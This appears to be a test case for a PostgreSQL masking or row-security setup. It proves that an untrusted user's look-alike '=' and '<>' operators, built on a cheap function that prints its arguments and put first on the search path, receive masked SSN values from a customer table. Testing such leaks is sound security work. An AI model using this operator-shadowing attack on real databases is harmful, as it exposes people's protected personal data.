-- class: leaky
-- who: stranger
-- proves: an operator that stands in for a built-in one is given masked values
CREATE SCHEMA evil;
CREATE FUNCTION evil.leak(text, text) RETURNS boolean LANGUAGE plpgsql COST 0.0000001 AS
	$$BEGIN RAISE NOTICE 'leak % %', $1, $2; RETURN true; END$$;
CREATE OPERATOR evil.= (PROCEDURE = evil.leak, LEFTARG = text, RIGHTARG = text);
CREATE OPERATOR evil.<> (PROCEDURE = evil.leak, LEFTARG = text, RIGHTARG = text);
SET search_path = evil, pg_catalog, app;
SELECT count(*) FROM customer WHERE ssn = ''::text;
SELECT count(*) FROM customer_barrier WHERE ssn <> ''::text;
